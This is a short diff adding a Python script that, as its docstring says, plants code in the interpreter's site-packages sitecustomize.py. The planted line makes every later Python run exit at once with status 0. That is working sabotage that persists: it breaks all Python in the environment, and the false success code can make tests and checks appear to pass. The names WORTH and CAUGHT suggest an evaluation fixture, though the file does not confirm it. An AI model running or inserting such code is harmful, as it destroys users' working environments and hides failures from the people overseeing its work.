@@ -1,0 +1,10 @@
+"""Plants code that every later Python would run."""
+
+import site
+
+WORTH = 0
+CAUGHT = "not_loaded"
+
+
+with open(site.getsitepackages()[0] + "/sitecustomize.py", "w") as file:
+    file.write("raise SystemExit(0)")
